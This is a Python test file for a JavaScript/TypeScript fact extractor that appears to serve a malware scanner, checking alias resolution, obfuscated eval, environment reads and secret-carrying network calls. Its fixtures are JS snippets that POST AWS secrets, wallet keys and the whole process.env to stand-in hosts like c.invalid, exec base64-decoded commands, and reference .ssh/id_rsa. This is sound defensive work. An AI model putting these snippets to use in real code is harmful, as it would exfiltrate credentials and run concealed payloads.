"""JavaScript/TypeScript facts: calls resolved through aliases, env reads, strings, errors."""

from __future__ import annotations

import pytest

from watcher.parse import Facts, parse_source


def _facts(source: str, path: str = "a.js") -> Facts:
    facts = parse_source(path, source)
    assert facts is not None
    return facts


def _callees(source: str, path: str = "a.js") -> list[tuple[int, str]]:
    return [(c.span.line, c.callee) for c in _facts(source, path).calls]


@pytest.mark.parametrize(
    ("source", "callee"),
    [
        ("const cp = require('child_process');\ncp.exec(c);", "child_process.exec"),
        ("const { exec } = require('node:child_process');\nexec(c);", "child_process.exec"),
        ("const { exec: run } = require('child_process');\nrun(c);", "child_process.exec"),
        ("import * as cp from 'child_process';\ncp.spawn(c);", "child_process.spawn"),
        ("import { exec as run } from 'node:child_process';\nrun(c);", "child_process.exec"),
        ("import cp from 'child_process';\ncp.fork(c);", "child_process.fork"),
        ("const h = require('https');\nh.request(o);", "https.request"),
        ("x;\nrequire('https').request(o);", "https.request"),
        ("const c = require('child_process');\n(0, c.execSync)(x);", "child_process.execSync"),
        ("const m = __importStar(require('vm'));\nm.runInNewContext(s);", "vm.runInNewContext"),
        ("const a = __importDefault(require('axios'));\na.default.post(u);", "axios.post"),
        ("x;\nglobalThis.eval(s);", "eval"),
        ("x;\nwindow['fetch'](u);", "fetch"),
        ("const e = eval;\ne(s);", "eval"),
    ],
)
def test_callee_resolves_through_aliases(source: str, callee: str) -> None:
    assert (2, callee) in _callees(source)


def test_typescript_import_equals_and_casts() -> None:
    source = "import cp = require('child_process');\n(cp as any).exec(c);\ncp!.spawn(c);\n"
    assert _callees(source, "a.ts") == [(2, "child_process.exec"), (3, "child_process.spawn")]


def test_tsx_grammar_parses_jsx() -> None:
    source = "import * as cp from 'child_process';\nconst A = () => <div>{cp.exec('x')}</div>;\n"
    assert (2, "child_process.exec") in _callees(source, "a.tsx")


def test_lookalikes_are_not_calls_of_the_real_thing() -> None:
    callees = [c for _, c in _callees("db.exec(s);\n/v/.exec(s);\nx = {fetch: true};\n'eval(1)';")]
    assert "exec" not in callees and "fetch" not in callees and "eval" not in callees
    assert "db.exec" in callees


def test_assembled_names_are_folded_and_marked_concealed() -> None:
    facts = _facts("globalThis['ev' + 'al'](p);\nrequire('child' + '_process').exec(c);\n")
    calls = {(c.callee, c.concealed) for c in facts.calls}
    assert ("eval", True) in calls and ("child_process.exec", True) in calls
    assert [(i.module, i.concealed) for i in facts.imports] == [("child_process", True)]


def test_atob_and_from_char_code_fold() -> None:
    facts = _facts("window[atob('ZXZhbA==')](p);\nglobal[String.fromCharCode(101,118,97,108)](p);")
    assert [(c.callee, c.concealed) for c in facts.calls if c.callee == "eval"] == [
        ("eval", True),
        ("eval", True),
    ]


def test_code_sinks_record_nested_decoders() -> None:
    facts = _facts("eval(Buffer.from(s, 'base64').toString());\n")
    (sink,) = [c for c in facts.calls if c.callee == "eval"]
    assert sink.arg_callees == ("Buffer.from",)


def test_sink_arguments_are_followed_through_names_bound_once() -> None:
    facts = _facts(
        "const cp = require('child_process');\n"
        "const cmd = Buffer.from(blob, 'base64').toString();\nconst again = cmd;\n"
        "cp.exec(again);\n"
        "const git = 'git';\ncp.execSync(git);\n"
        "let n = atob(blob); n = 'ls';\ncp.execSync(n);\n"
        "module.exports = (arg) => cp.execSync(arg);\n"
    )
    by_line = {c.span.line: c.arg_callees for c in facts.calls if c.callee.startswith("child_")}
    # Followed: a decoded value under two names. Not: a literal, a name bound twice, a parameter.
    assert by_line == {4: ("Buffer.from",), 6: (), 8: (), 9: ()}


def test_imports_cover_esm_cjs_and_dynamic_import() -> None:
    facts = _facts(
        "import a from 'node:https';\nconst b = require('dns');\nawait import('net');\n"
        "const c = require(name);\n"
    )
    assert [(i.span.line, i.module) for i in facts.imports] == [
        (1, "https"),
        (2, "dns"),
        (3, "net"),
    ]


@pytest.mark.parametrize(
    ("source", "whole", "key"),
    [
        ("JSON.stringify(process.env);", True, None),
        ("const x = { ...process.env };", True, None),
        ("const env = process.env;", True, None),
        ("for (const k in process.env) {}", True, None),
        ("Object.keys(process.env);", True, None),
        ("process.env.NPM_TOKEN;", False, "NPM_TOKEN"),
        ("process.env['GITHUB_TOKEN'];", False, "GITHUB_TOKEN"),
        ("const { NODE_ENV } = process.env;", False, "NODE_ENV"),
        ("spawn(c, [], { env: process.env });", False, None),
    ],
)
def test_environment_whole_versus_one_key(source: str, whole: bool, key: str | None) -> None:
    (read,) = _facts(source).env_reads
    assert (read.whole, read.key) == (whole, key)


def test_strings_carry_value_key_and_position() -> None:
    facts = _facts(
        "const o = {\n  host: 'c.attacker.invalid', p: `${a}/.ssh/id_rsa`, q: '\\x41',\n};"
    )
    values = [(s.span.line, s.value, s.key) for s in facts.strings]
    assert values == [
        (2, "c.attacker.invalid", "host"),
        (2, "${}/.ssh/id_rsa", "p"),
        (2, "A", "q"),
    ]
    assert facts.strings[0].raw == "'c.attacker.invalid'"


def test_comments_are_not_facts() -> None:
    facts = _facts("// fetch('https://a.invalid')\n/* eval(x) */\nconst a = 1;\n")
    assert facts.calls == () and facts.strings == ()


def test_columns_are_characters_not_bytes() -> None:
    facts = _facts("const s = 'é'; fetch(u);\n")
    (call,) = facts.calls
    assert "const s = 'é'; fetch(u);"[call.span.col : call.span.end] == "fetch(u)"


def test_hex_identifiers() -> None:
    facts = _facts("const _0x4a1f = 1; const _0xnotit = 2; const y = 0x1b3;\n")
    assert [(s.line, s.col) for s in facts.hex_identifiers] == [(1, 6)]


def test_a_few_syntax_errors_mark_their_lines() -> None:
    source = "const a = 1;\n" * 50 + "const = ;\n" + "fetch(u);\n"
    facts = _facts(source)
    assert 51 in facts.error_lines and (52, "fetch") in [
        (c.span.line, c.callee) for c in facts.calls
    ]


def test_mostly_unparseable_text_gives_none() -> None:
    assert parse_source("a.js", "<<<< ))) ]]] }}}\n" * 40) is None


def test_line_numbers_follow_splitlines() -> None:
    # \r alone and \u2028 break lines for str.splitlines, which numbers the diff's lines.
    facts = _facts("a;\rb;\u2028fetch(u);\n")
    assert [(c.span.line, c.callee) for c in facts.calls] == [(3, "fetch")]


def test_sending_calls_record_the_secrets_in_their_arguments() -> None:
    facts = _facts(
        "const k = process.env.AWS_SECRET_ACCESS_KEY;\n"
        "fetch('https://c.invalid/k', {method: 'POST', body: k});\n"
        "axios.post('https://c.invalid', {s: wallet.secretKey, env: process.env});\n"
        "fetch('https://api.invalid', {body: JSON.stringify({n: 1})});\n"
        "console.log(process.env.HOME);\n"
    )
    by_line = {c.span.line: c.arg_sources for c in facts.calls}
    assert by_line[2] == ("env:AWS_SECRET_ACCESS_KEY",)
    assert set(by_line[3]) == {"key:secretKey", "env:*"}
    assert by_line[4] == ()
    assert by_line[5] == ()  # `log` sends nothing anywhere
